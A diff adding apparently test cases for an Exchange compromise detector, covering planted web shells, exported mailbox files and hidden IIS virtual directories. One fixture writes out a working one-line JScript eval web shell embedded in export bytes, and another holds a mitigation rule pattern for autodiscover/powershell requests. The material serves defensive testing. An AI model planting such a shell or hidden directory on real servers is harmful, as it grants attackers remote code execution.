@@ -1,0 +1,58 @@
+using System.Text;
+using Breakwater.Accuracy.Tests.Evidence;
+using static Breakwater.Accuracy.Tests.AccuracyCase;
+using static Breakwater.Accuracy.Tests.Cases.Servers;
+using static Breakwater.Model.ExposureState;
+using static Breakwater.Model.VerdictState;
+
+namespace Breakwater.Accuracy.Tests.Cases;
+
+/// <summary>Evidence without a single log, and what files add to logs.</summary>
+internal static class FileCases
+{
+    private const string OwaAuth = @"D:\EX\FrontEnd\HttpProxy\owa\auth\";
+
+    public static IEnumerable<AccuracyCase> All =>
+    [
+        Of("file-foreign-page", () => Bare().Page(OwaAuth + "OutlookEN.US.aspx"), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("unattributed", Compromised)] },
+        Of("file-oab-shaped", () => Bare().With(b => b.OabExport(Intrusions.Tag, @"C:\inetpub\wwwroot\aspnet_client\supp0rt.aspx")), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("proxylogon", Compromised)] },
+        Of("file-mailbox-export", () => Bare().With(b => b.File(@"C:\inetpub\wwwroot\aspnet_client\wtsq.aspx", [.. "!BDN"u8, 1, 2, 3, 4, .. "SM"u8, .. new byte[271360], .. "<%@ Page Language=\"JScript\"%><%eval(Request[\"k\"])%>"u8])), Shapes.Kape, Vulnerable, Compromised, 14)
+            with { States = [("proxyshell", Compromised)] },
+        Of("file-certificate-request", () => Bare().With(b => b.File(OwaAuth + "qz.aspx", [0x30, 0x82, 4, 0x5e, .. new byte[300], .. "<% Page Language %>"u8, .. new byte[300]])), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("proxyshell", Compromised)] },
+        Of("file-shipped-names", Shipped, Shapes.Kape, Vulnerable, CannotExclude, 11) with { NeverSays = ["intruder succeeded"] },
+        Of("file-compiled-only", () => Bare().Compiled("/aspnet_client/system_web/zx.aspx"), Shapes.Kape, Vulnerable, Compromised, 14),
+        Of("file-compiled-shipped", () => Bare().Compiled("/owa/auth/logon.aspx").Compiled("/ecp/default.aspx"), Shapes.Kape, Vulnerable, CannotExclude, 11),
+        Of("export-with-script", () => Bare().OabExport(Intrusions.Tag), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("proxylogon", Compromised)] },
+        Of("export-clean", () => Bare().OabExport("https://webmail.tailspin.test/OAB"), Shapes.Kape, Vulnerable, CannotExclude, 11),
+        Of("config-hidden-directory", () => Bare().ApplicationHost(@"C:\inetpub\logs\LogFiles", "<virtualDirectory path=\"/aspnet_client/x\" physicalPath=\"C:\\ProgramData\\COM1\\\" />"), Shapes.Kape, Vulnerable, Compromised, 14)
+            with { Says = ["hidden"] },
+        Of("config-plain", () => Bare().ApplicationHost(@"C:\inetpub\logs\LogFiles"), Shapes.Kape, Vulnerable, CannotExclude, 11),
+        Of("shell-removed", () => March2021().Page(@"C:\inetpub\wwwroot\iisstart.htm", "<html>IIS</html>").With(b => b.Use(Intrusion2021, "/aspnet_client/gone.aspx")), Shapes.Kape, Vulnerable, Compromised, 14) with { Must = ["unattributed:shellUsed"] },
+        Of("shell-behind-shipped-name", () => Bare().Page(OwaAuth + @"Current\themes\logon.aspx"), Shapes.Kape, Vulnerable, Compromised, 14),
+        Of("mitigation-rule-present", () => March2021().With(b =>
+        {
+            b.ProxyLogon(Intrusion2021);
+            b.File(b.Install + @"\FrontEnd\HttpProxy\autodiscover\web.config", "<configuration><system.webServer><rewrite><rules><rule name=\"EEMS M1.1 PowerShell - inbound\" stopProcessing=\"true\"><match url=\".*\" /><conditions><add input=\"{UrlDecode:{REQUEST_URI}}\" pattern=\"(?=.*autodiscover)(?=.*powershell)\" /></conditions><action type=\"AbortRequest\" /></rule></rules></rewrite></system.webServer></configuration>");
+        }), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("proxynotshell", NotFound)] },
+    ];
+
+    private static Box Bare()
+    {
+        var box = new Box { Install = @"D:\EX" };
+        return box.GetExchangeServer("Version 15.1 (Build 2176.2)");
+    }
+
+    /// <summary>Files of a build that no published list of hashes covers.</summary>
+    private static Box Shipped()
+    {
+        var box = new Box { Install = @"D:\EX" }.ExSetup("15.2.1118.12");
+        foreach (var name in new[] { "errorFE", "ExpiredPassword", "frowny", "logoff", "logon", "OutlookCN", "RedirSuiteServiceProxy", "signout" })
+        {
+            box.Page($"{OwaAuth}{name}.aspx", "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy." + name + "\" %>\r\n<%@ Import namespace=\"Microsoft.Exchange.Clients\" %>\r\n<html><body><%= this.UserName %></body></html>\r\n");
+        }
+
+        box.Page(@"D:\EX\FrontEnd\HttpProxy\ecp\auth\TimeoutLogout.aspx", "<%@ Page Language=\"c#\" Inherits=\"Microsoft.Exchange.HttpProxy.TimeoutLogout\" %>");
+        box.File(@"D:\EX\ClientAccess\OAB\Temp\LZXc2f3lst0.1js", Encoding.ASCII.GetBytes("LZX"));
+        return box;
+    }
+}
